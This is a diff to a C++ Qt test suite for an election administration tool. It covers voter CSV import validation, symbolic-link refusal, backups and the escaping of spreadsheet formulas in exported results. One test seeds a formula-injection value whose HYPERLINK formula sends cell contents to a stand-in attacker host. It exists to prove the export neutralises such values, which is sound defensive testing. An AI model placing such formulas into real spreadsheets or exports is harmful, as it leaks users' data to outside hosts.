@@ -26,15 +26,20 @@ struct Run {
     QString out, err;
 };
 
-static Run admin(const QStringList &args)
+// Runs the tool (or a copy of it elsewhere), with the given standard input.
+static Run admin(const QStringList &args, const QByteArray &input = {}, QString tool = {})
 {
     QProcess p;
-    p.start(qEnvironmentVariable("POLLARIS_ADMIN"), args);
+    p.start(tool.isEmpty() ? qEnvironmentVariable("POLLARIS_ADMIN") : tool, args);
+    p.write(input);
     p.closeWriteChannel();
     p.waitForFinished(60000);
     return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, QString::fromUtf8(p.readAllStandardOutput()),
             QString::fromUtf8(p.readAllStandardError())};
 }
+
+// A refusal: a failure exit, with the given words on standard error.
+static bool refused(const Run &r, const QString &words) { return r.exitCode > 0 && r.err.contains(words); }
 
 // The tool's arguments that name an election.
 static QStringList at(const ElectionFolder &e)
@@ -73,13 +78,12 @@ private slots:
     void newRefusesAnExistingElectionAndNoCommandCreatesAMissingOne()
     {
         Run r = admin(QStringList{"new", "--admin", "x", "--password", "y"} + at(*db));
-        QVERIFY2(r.exitCode > 0 && r.err.contains(db->onServer() ? "already holds an election" : "already exists"),
-                 qPrintable(r.err));
+        QVERIFY2(refused(r, db->onServer() ? "already holds an election" : "already exists"), qPrintable(r.err));
         QCOMPARE(db->rows(QStringLiteral("SELECT * FROM Administrators")), QStringList{"admin|secret"});
         // Nor does it follow a link, even one to nowhere.
         QVERIFY(QFile::link(db->folder() + "/pointed.mdb", db->folder() + "/link.mdb"));
         r = admin({"new", "--admin", "x", "--password", "y", db->folder() + "/link.mdb"});
-        QVERIFY2(r.exitCode > 0 && r.err.contains("/link.mdb is a symbolic link"), qPrintable(r.err));
+        QVERIFY2(refused(r, "/link.mdb is a symbolic link"), qPrintable(r.err));
         QVERIFY(!QFile::exists(db->folder() + "/pointed.mdb"));
 
         if (db->onServer())
@@ -120,13 +124,7 @@ private slots:
         const QString tool = bin + QStringLiteral("/pollaris-admin"), link = bin + QStringLiteral("/candpos4.mdb");
         QVERIFY(QDir().mkdir(bin) && QDir().mkdir(data) && QFile::copy(qEnvironmentVariable("POLLARIS_ADMIN"), tool));
         QVERIFY(QFile::link(data + QStringLiteral("/candpos4.mdb"), link));
-        const auto installed = [&](const QStringList &args) {
-            QProcess p;
-            p.start(tool, args);
-            p.closeWriteChannel();
-            p.waitForFinished(60000);
-            return p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
-        };
+        const auto installed = [&](const QStringList &args) { return admin(args, {}, tool).exitCode; };
         QCOMPARE(installed({"new", "--admin", "boss", "--password", "pw"}), 0);
         const QFileInfo file(data + QStringLiteral("/candpos4.mdb"));
         QVERIFY(file.isFile() && !file.isSymLink() && QFileInfo(link).isSymLink());
@@ -149,29 +147,22 @@ private slots:
     {
         QTest::addColumn<QByteArray>("row");
         QTest::addColumn<QString>("fault");
-        QTest::newRow("good") << QByteArray("J\xC3\xBCrgen \xC3\x84rger,\xC3\x84"
-                                            "B1,\xC3\xA9t\xC3\xA9")
-                              << QString();
-        QTest::newRow("empty name") << QByteArray(",2026201,pw") << QStringLiteral("name is empty");
-        QTest::newRow("empty id") << QByteArray("Ann,,pw") << QStringLiteral("student ID is empty");
-        QTest::newRow("empty password") << QByteArray("Ann,2026201,\"\"") << QStringLiteral("password is empty");
-        QTest::newRow("long name") << (QByteArray(51, 'n') + ",2026201,pw") << QStringLiteral("longer than 50");
-        QTest::newRow("long id") << QByteArray("Ann,123456789012345678901,pw") << QStringLiteral("longer than 20");
-        QTest::newRow("two fields") << QByteArray("Ann,2026201") << QStringLiteral("2 fields");
-        QTest::newRow("registered, non-ASCII case") << QByteArray("Ann,\xC3\xA4"
-                                                                  "b,pw")
-                                                    << QStringLiteral("already registered");
-        QTest::newRow("repeated in file, other case")
-            << QByteArray("Ann,GOOD-1,pw") << QStringLiteral("repeats the one on line 2");
-        QTest::newRow("unclosed quote") << QByteArray("Ann,2026201,\"pw") << QStringLiteral("not closed");
-        QTest::newRow("stray quote") << QByteArray("An\"n,2026201,pw") << QStringLiteral("quote");
-        QTest::newRow("nul") << QByteArray("ab\0cd,2026201,pw", 16)
-                             << QStringLiteral("name holds a control character (U+0000)");
-        QTest::newRow("tab") << QByteArray("Ann,2026\t201,pw")
-                             << QStringLiteral("student ID holds a control character (U+0009)");
+        QTest::newRow("good") << QByteArray("Jürgen Ärger,ÄB1,été") << QString();
+        QTest::newRow("empty name") << QByteArray(",2026201,pw") << "name is empty";
+        QTest::newRow("empty id") << QByteArray("Ann,,pw") << "student ID is empty";
+        QTest::newRow("empty password") << QByteArray("Ann,2026201,\"\"") << "password is empty";
+        QTest::newRow("long name") << (QByteArray(51, 'n') + ",2026201,pw") << "longer than 50";
+        QTest::newRow("long id") << QByteArray("Ann,123456789012345678901,pw") << "longer than 20";
+        QTest::newRow("two fields") << QByteArray("Ann,2026201") << "2 fields";
+        QTest::newRow("registered, non-ASCII case") << QByteArray("Ann,äb,pw") << "already registered";
+        QTest::newRow("repeated in file, other case") << QByteArray("Ann,GOOD-1,pw") << "repeats the one on line 2";
+        QTest::newRow("unclosed quote") << QByteArray("Ann,2026201,\"pw") << "not closed";
+        QTest::newRow("stray quote") << QByteArray("An\"n,2026201,pw") << "quote";
+        QTest::newRow("nul") << QByteArray("ab\0cd,2026201,pw", 16) << "name holds a control character (U+0000)";
+        QTest::newRow("tab") << QByteArray("Ann,2026\t201,pw") << "student ID holds a control character (U+0009)";
         QTest::newRow("line break") << QByteArray("Ann,2026201,\"p\nw\"")
-                                    << QStringLiteral("password holds a control character (U+000A)");
-        QTest::newRow("escape") << QByteArray("\x1b[31mAnn,2026201,pw") << QStringLiteral("control character (U+001B)");
+                                    << "password holds a control character (U+000A)";
+        QTest::newRow("escape") << QByteArray("\x1b[31mAnn,2026201,pw") << "control character (U+001B)";
     }
 
     void importsAGoodRowOrRefusesTheWholeFile()
@@ -206,9 +197,8 @@ private slots:
         const auto users = [this] { return db->rows(QStringLiteral("SELECT * FROM Users ORDER BY rowid")); };
         // No header: refused, so that its first voter is not taken for one.
         Run r = admin(QStringList{"import-voters", csv("Ann,1,p\nBo,2,q\n")} + at(*db));
-        QVERIFY2(r.exitCode > 0 && r.err.contains(db->folder() + "/voters.csv line 1: the first row must be the "
-                                                                 "header naming the columns Name, Student ID (or "
-                                                                 "Username) and Password"),
+        QVERIFY2(refused(r, db->folder() + "/voters.csv line 1: the first row must be the header naming the "
+                                           "columns Name, Student ID (or Username) and Password"),
                  qPrintable(r.err));
         for (const QByteArray header : {"Name,Student ID,Student ID", "Name,Student ID", "Name,ID,Password"})
             QVERIFY(admin(QStringList{"import-voters", csv(header + "\nAnn,1,p\n")} + at(*db))
@@ -239,8 +229,7 @@ private slots:
         QVERIFY(admin(QStringList{"import-voters", huge.fileName()} + at(*db))
                     .err.contains("huge.csv is larger than 64 MiB"));
         r = admin(QStringList{"import-voters", "/dev/zero"} + at(*db));
-        QVERIFY2(r.exitCode > 0 && r.err.contains("/dev/zero line 1: the line is longer than 64 KiB"),
-                 qPrintable(r.err));
+        QVERIFY2(refused(r, "/dev/zero line 1: the line is longer than 64 KiB"), qPrintable(r.err));
         QCOMPARE(users().size(), 2);
 
         // A long register shows its progress, in plain lines when not on a terminal.
@@ -259,38 +248,31 @@ private slots:
         if (db->onServer())
             QSKIP("the password handling is the same for a server; the file case shows it");
         QVERIFY(QFile::remove(db->file()));
-        QProcess p;
-        p.start(qEnvironmentVariable("POLLARIS_ADMIN"), {"new", "--admin", "boss", "--password-stdin", db->file()});
-        p.write("s3cret pass\r\n");
-        p.closeWriteChannel();
-        QVERIFY(p.waitForFinished(60000) && p.exitCode() == 0);
-        QCOMPARE(p.readAllStandardError(), QByteArray());
+        Run r = admin({"new", "--admin", "boss", "--password-stdin", db->file()}, "s3cret pass\r\n");
+        QVERIFY(r.exitCode == 0 && r.err.isEmpty());
         QCOMPARE(db->rows("SELECT * FROM Administrators"), QStringList{"boss|s3cret pass"});
 
         QVERIFY(QFile::remove(db->file()));
-        Run r = admin({"new", "--admin", "x", "--password", "y", db->file()});
+        r = admin({"new", "--admin", "x", "--password", "y", db->file()});
         QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password can be read by other "
                                                    "users of this computer"),
                  qPrintable(r.err));
         // Nothing on standard input: nothing is made.
         QVERIFY(QFile::remove(db->file()));
         r = admin({"new", "--admin", "x", "--password-stdin", db->file()});
-        QVERIFY2(r.exitCode > 0 && r.err.contains(db->file() + ": no password on standard input"), qPrintable(r.err));
+        QVERIFY2(refused(r, db->file() + ": no password on standard input"), qPrintable(r.err));
         QVERIFY(!QFile::exists(db->file()));
     }
 
     void csvNeverHandsASpreadsheetAFormula()
     {
         const QString chr = db->onServer() ? "chr" : "char";
-        db->exec("INSERT INTO Positions VALUES ('+P', '=1+1');"
-                 "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', '1', '+P'),"
-                 " ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', " +
-                 chr +
-                 "(9) || 'tab', '4', '+P'),"
-                 " ('E', " +
-                 chr +
-                 "(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
-                 "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)");
+        db->exec(QString("INSERT INTO Positions VALUES ('+P', '=1+1');"
+                         "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', "
+                         "'1', '+P'), ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', %1(9) || 'tab', '4',"
+                         " '+P'), ('E', %1(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
+                         "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)")
+                     .arg(chr));
         QCOMPARE(admin(QStringList{"results", "--csv"} + at(*db)).out.split("\r\n"),
                  QStringList({"PosID,PosName,CandID,CandName,NumVotes",
                               "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
@@ -310,9 +292,9 @@ private slots:
         // A link, even one to nowhere, and a folder are refused by name; nothing is made.
         QVERIFY(QFile::link(dir + "/nowhere.mdb", dir + "/link.mdb") && QDir(dir).mkdir("sub"));
         r = admin({"backup", dir + "/link.mdb", db->file()});
-        QVERIFY2(r.exitCode > 0 && r.err.contains(dir + "/link.mdb is a symbolic link"), qPrintable(r.err));
+        QVERIFY2(refused(r, dir + "/link.mdb is a symbolic link"), qPrintable(r.err));
         r = admin({"backup", dir + "/sub", db->file()});
-        QVERIFY2(r.exitCode > 0 && r.err.contains(dir + "/sub is a folder"), qPrintable(r.err));
+        QVERIFY2(refused(r, dir + "/sub is a folder"), qPrintable(r.err));
         QCOMPARE(QDir(dir).entryList(QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot),
                  QStringList({"candpos4.mdb", "clean.mdb", "link.mdb", "sub"}));
 
@@ -372,11 +354,10 @@ private slots:
         // Codes in either case, a tally twice, a negative tally, a position with no candidates.
         db->exec(QStringLiteral(
             "INSERT INTO Positions VALUES ('P1', 'Head, \"Chief\"'), ('p2', 'Secretary'), ('P3', 'Nobody');"
-            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6', "
-            "'P1'),"
-            " ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5', 'p2');"
-            "INSERT INTO CandVote VALUES ('A', 12), ('B', 40), ('C', 12), ('D', 0), ('E', 33000), ('b', 7), ('F', "
-            "-1);"));
+            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6',"
+            " 'P1'), ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5',"
+            " 'p2'); INSERT INTO CandVote VALUES ('A', 12), ('B', 40), ('C', 12), ('D', 0), ('E', 33000), ('b', 7),"
+            " ('F', -1);"));
         startProgramOn(*db);
         frmCountVotes &screen = Shell::Show<frmCountVotes>();
         QString shown;
@@ -405,9 +386,8 @@ private slots:
         live.exec(QStringLiteral(
             "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40000)"
             " INSERT INTO Users SELECT 'Voter ' || i, 'S' || i, printf('%020d', i), 0 FROM n;"
-            "INSERT INTO CandVote VALUES ('A', 0), ('B', 1000000); CREATE TRIGGER vote AFTER UPDATE OF HasVoted ON "
-            "Users"
-            " WHEN old.HasVoted = 0 BEGIN UPDATE CandVote SET NumVotes = NumVotes + 1 WHERE CandID = 'A';"
+            "INSERT INTO CandVote VALUES ('A', 0), ('B', 1000000); CREATE TRIGGER vote AFTER UPDATE OF HasVoted"
+            " ON Users WHEN old.HasVoted = 0 BEGIN UPDATE CandVote SET NumVotes = NumVotes + 1 WHERE CandID = 'A';"
             " UPDATE CandVote SET NumVotes = NumVotes - 1 WHERE CandID = 'B'; END;"));
         std::atomic<int> written{0}, stop{0};
         // Votes by student ID, one after another, on a connection of their own.
@@ -423,18 +403,16 @@ private slots:
             QFile::remove(db->file());
             const Run copied = admin({"backup", db->file(), live.file()});
             QVERIFY2(copied.exitCode == 0, qPrintable(copied.err));
-            QCOMPARE(
-                db->rows(QStringLiteral("SELECT (SELECT * FROM pragma_integrity_check), sum(NumVotes), (SELECT count(*)"
-                                        " FROM Users), sum(CASE CandID WHEN 'A' THEN NumVotes END) = (SELECT count(*) "
-                                        "FROM Users WHERE HasVoted = 1)"
-                                        " FROM CandVote")),
-                QStringList{"ok|1000000|40000|1"});
+            QCOMPARE(db->rows("SELECT (SELECT * FROM pragma_integrity_check), sum(NumVotes), (SELECT count(*) FROM "
+                              "Users), sum(CASE CandID WHEN 'A' THEN NumVotes END) = (SELECT count(*) FROM Users "
+                              "WHERE HasVoted = 1) FROM CandVote"),
+                     QStringList{"ok|1000000|40000|1"});
             QVERIFY(db->value(tally).toInt() > before);
         }
         // An existing copy is never overwritten.
         const int last = db->value(tally).toInt();
         Run r = admin({"backup", db->file(), live.file()});
-        QVERIFY(r.exitCode > 0 && r.err.contains(QStringLiteral("already exists")));
+        QVERIFY2(refused(r, QStringLiteral("already exists")), qPrintable(r.err));
         QCOMPARE(db->value(tally).toInt(), last);
         QCOMPARE(live.value(QStringLiteral("PRAGMA integrity_check")).toString(), QStringLiteral("ok"));
     }
@@ -467,8 +445,7 @@ private slots:
              {QStringList{"copy", db->server(), file.file()}, QStringList{"copy", db->server(), link},
               QStringList{"backup", "--server", db->server(), link}, QStringList{"copy", file.file(), db->server()}}) {
             r = admin(args);
-            QVERIFY2(r.exitCode > 0 &&
-                         r.err.contains(args.last() == db->server() ? "already holds an election" : "already exists"),
+            QVERIFY2(refused(r, args.last() == db->server() ? "already holds an election" : "already exists"),
                      qPrintable(r.err));
         }
         QVERIFY(!QFile::exists(linked));
@@ -488,7 +465,7 @@ private slots:
         file.exec("UPDATE Users SET HasVoted = 2 WHERE Username = 'n2'");
         db->exec(drop);
         r = admin({"copy", file.file(), db->server()});
-        QVERIFY2(r.exitCode > 0 && r.err.contains("nothing was copied"), qPrintable(r.err));
+        QVERIFY2(refused(r, "nothing was copied"), qPrintable(r.err));
         QCOMPARE(db->value("SELECT count(*) FROM pg_class WHERE relnamespace = current_schema()::regnamespace").toInt(),
                  0);
     }
